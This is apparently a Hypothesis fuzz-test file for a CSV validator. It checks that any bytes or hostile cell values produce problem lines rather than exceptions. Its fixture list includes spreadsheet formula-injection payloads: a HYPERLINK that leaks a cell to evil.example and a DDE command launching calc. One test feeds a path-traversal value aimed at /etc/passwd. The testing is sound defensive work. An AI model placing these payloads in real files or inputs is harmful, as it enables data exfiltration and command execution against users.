"""Fuzz the CSV reader and the validator: any bytes give problem lines, never an exception."""

from __future__ import annotations

import csv
import io
import os
import re
from pathlib import Path

from conftest import ROOT
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ctdash.schema import TABLE_BY_NAME, TABLES
from ctdash.validate import Parsed, Problem, check_tables, parse_table, validate

PROBLEM_LINE = re.compile(r"(?P<file>[^\n:]+):(?P<line>\d+): (?P<column>[^\n]+?): (?P<message>[^\n]+)")
EXAMPLES = int(os.environ.get("CTDASH_FUZZ_EXAMPLES", "60"))  # raise for a deep run
FUZZ = settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
TABLE_NAMES = st.sampled_from([t.name for t in TABLES])

# Text a hostile or careless contributor might put in a cell.
NASTY = st.sampled_from([
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
    "\tleading tab", "\rcarriage", "a\nb", 'say "hi"', '"', "\x00", "\u202e\u0645\u0631\u062d\u0628\u0627",
    "\u0661\u0662\u0663", "1_000", "nan", "inf", "1e400", "-0", "9" * 40, "\ufeff", "\u200f", "ﷺ",
    "أكثر من ٢٠٠ اجتماع", "ثلاثة وعشرون", "2017-02-30", "0000-00-00", "x" * 200_000, "", " ",
])
CELL = st.one_of(NASTY, st.text(max_size=40))


def assert_problem_lines(problems: list[Problem], total_lines: int, name: str = "upload/x.csv") -> None:
    """Every problem prints as one FILE:LINE: column: message line; the file's own point into it."""
    for p in problems:
        text = str(p)
        match = PROBLEM_LINE.fullmatch(text)
        assert match, text
        if match["file"] == name:
            assert 0 <= int(match["line"]) <= total_lines + 1, text


def live() -> dict[str, Parsed]:
    parsed, problems = validate(ROOT / "data")
    assert problems == []
    return parsed


LIVE = live()


@FUZZ
@given(raw=st.binary(max_size=3000), table=TABLE_NAMES)
def test_random_bytes(raw: bytes, table: str) -> None:
    parsed, problems = parse_table(raw, TABLE_BY_NAME[table], Path("upload/x.csv"), "upload/x.csv")
    assert_problem_lines(problems, len(raw.splitlines()) + 1)
    assert problems and not parsed.rows  # random bytes never carry the header: refused, nothing parsed
    try:
        raw.decode("utf-8")
    except UnicodeDecodeError:
        assert any("not UTF-8" in p.message for p in problems)


@FUZZ
@given(table=TABLE_NAMES, rows=st.lists(st.lists(CELL, min_size=0, max_size=18), max_size=6),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1256", "utf-16", "utf-16-le", "latin-1"]))
def test_csv_shaped_input_in_any_encoding(table: str, rows: list[list[str]], encoding: str) -> None:
    t = TABLE_BY_NAME[table]
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(t.column_names)
    writer.writerows(rows)
    raw = buf.getvalue().encode(encoding, errors="replace")
    parsed, problems = parse_table(raw, t, Path("upload/x.csv"), "upload/x.csv")
    assert_problem_lines(problems, len(raw.splitlines()) + 1)
    if encoding in ("utf-16", "utf-16-le", "utf-8-sig") or (encoding != "utf-8" and not raw.isascii()):
        assert problems  # a file in the wrong encoding is never accepted silently


@FUZZ
@given(table=TABLE_NAMES, data=st.data())
def test_every_check_on_fuzzed_rows(table: str, data: st.DataObject) -> None:
    """Rows with the right columns and hostile values go through every rule without raising."""
    t = TABLE_BY_NAME[table]
    live_rows = LIVE[table].rows
    rows = []
    for _ in range(data.draw(st.integers(1, 4))):
        base = dict(data.draw(st.sampled_from(live_rows))) if live_rows else {c: "" for c in t.column_names}
        for col in data.draw(st.lists(st.sampled_from(t.column_names), max_size=4)):
            base[col] = data.draw(CELL)
        rows.append(base)
    parsed = dict(LIVE)
    parsed[table] = Parsed(t, Path("upload/x.csv"), rows, list(range(2, 2 + len(rows))))
    problems = check_tables(parsed, ROOT)
    assert_problem_lines(problems, len(rows) + 1)
    # a cell the column cannot hold is reported on its own line and column
    for line, row in zip(parsed[table].lines, rows, strict=True):
        for col in t.columns:
            if col.type == "double" and row[col.name] not in ("",) and not _is_number(row[col.name]):
                assert any(p.file == "upload/x.csv" and p.line == line and p.column == col.name for p in problems), \
                    (line, col.name, row[col.name])


def _is_number(text: str) -> bool:
    """What a double column accepts: ASCII decimal notation of a finite number."""
    import math

    if text != text.strip() or not re.fullmatch(r"[-+]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][-+]?[0-9]+)?", text):
        return False
    return math.isfinite(float(text))


@FUZZ
@given(header=st.lists(st.one_of(NASTY, st.text(max_size=12)), min_size=1, max_size=20), table=TABLE_NAMES)
def test_fuzzed_header(header: list[str], table: str) -> None:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(header)
    raw = buf.getvalue().encode("utf-8")
    _, problems = parse_table(raw, TABLE_BY_NAME[table], Path("upload/x.csv"), "upload/x.csv")
    assert_problem_lines(problems, len(raw.splitlines()) + 1)


def test_huge_field_is_one_problem() -> None:
    t = TABLE_BY_NAME["actors"]
    raw = ("actor_id,name_en,name_ar,kind,iso3\nMAR," + "x" * 120_000 + ",المغرب,state,MAR\n").encode()
    _, problems = parse_table(raw, t, Path("upload/actors.csv"), "upload/actors.csv")
    assert [str(p) for p in problems] == ["upload/actors.csv:2: name_en: field longer than 100000 characters"]


def test_header_cell_with_newline_and_colon_stays_one_line() -> None:
    raw = b'actor_id,name_en,name_ar,kind,iso3,"a:\nb"\n'
    _, problems = parse_table(raw, TABLE_BY_NAME["actors"], Path("upload/a.csv"), "upload/a.csv")
    assert [str(p) for p in problems] == [r"upload/a.csv:1: 'a\x3a\nb': unknown column"]


def test_numbers_take_ascii_digits_only() -> None:
    """float() reads '1_000' and Arabic-Indic digits; DuckDB would not, so the validator refuses them."""
    parsed = dict(LIVE)
    rows = [dict(r) for r in LIVE["facts"].rows[:3]]
    rows[0]["value"], rows[1]["year"], rows[2]["year"] = "1_000", "\u0662\u0660\u0661\u0667", "99999999999"
    parsed["facts"] = Parsed(TABLE_BY_NAME["facts"], Path("upload/facts.csv"), rows, [2, 3, 4])
    got = {str(p) for p in check_tables(parsed, ROOT)}
    assert "upload/facts.csv:2: value: not a number: '1_000'" in got
    assert "upload/facts.csv:3: year: not a whole number: '٢٠١٧'" in got
    assert "upload/facts.csv:4: year: whole number out of range: '99999999999'" in got


def test_seed_outside_seeds_folder_is_not_read() -> None:
    parsed = dict(LIVE)
    row = dict(LIVE["sources"].rows[0], file="../../../../etc/passwd")
    parsed["sources"] = Parsed(TABLE_BY_NAME["sources"], Path("upload/sources.csv"), [row], [2])
    got = [str(p) for p in check_tables(parsed, ROOT) if p.file == "upload/sources.csv"]
    assert got == ["upload/sources.csv:2: file: seed file must be under seeds/: '../../../../etc/passwd'"]
